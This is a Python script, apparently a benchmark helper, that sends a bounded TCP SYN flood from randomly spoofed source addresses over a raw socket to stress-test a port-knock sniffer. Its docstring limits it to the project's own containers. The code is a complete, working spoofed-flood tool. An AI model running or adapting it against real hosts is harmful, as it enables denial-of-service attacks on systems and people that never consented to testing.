#!/usr/bin/env python3
"""A bounded TCP SYN flood for the knock sniffer benchmark.

Sends pure SYNs (raw IPv4 socket, IP_HDRINCL) to TARGET on the given ports at RATE packets
per second for SECONDS, with source addresses drawn at random from SOURCE_CIDR (default: a
test-only /16), so the gateway has to track a flood of distinct spoofed sources. Only ever
run against the project's own containers. Prints one JSON line: packets sent, seconds, pps.

usage: synflood.py TARGET PORTS RATE SECONDS [SOURCE_CIDR]
  PORTS like 7000 or 7000,8000,9000 or 40000-40999
"""
import ipaddress
import json
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def ports_of(spec: str) -> list:
    if "-" in spec:
        a, b = spec.split("-")
        return list(range(int(a), int(b) + 1))
    return [int(p) for p in spec.split(",")]


def syn(src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> None:
    target, port_spec, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    net = ipaddress.ip_network(sys.argv[5] if len(sys.argv) > 5 else "10.203.0.0/16")
    ports = ports_of(port_spec)
    dst = socket.inet_aton(target)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    base, size = int(net.network_address), net.num_addresses
    # Pre-build a pool of packets so the send loop is cheap; sources cycle through many
    # distinct addresses.
    pool = [
        syn(struct.pack("!I", base + random.randrange(1, size - 1)), dst, random.randrange(1024, 65535), random.choice(ports), random.getrandbits(32))
        for _ in range(50_000)
    ]
    sent = 0
    start = time.perf_counter()
    end = start + seconds
    batch = max(1, rate // 1000)
    while True:
        now = time.perf_counter()
        if now >= end:
            break
        due = int((now - start) * rate)
        while sent < due:
            for _ in range(min(batch, due - sent)):
                s.sendto(pool[sent % len(pool)], (target, 0))
                sent += 1
        time.sleep(0.0005)
    elapsed = time.perf_counter() - start
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 3), "pps": round(sent / elapsed)}))


if __name__ == "__main__":
    main()
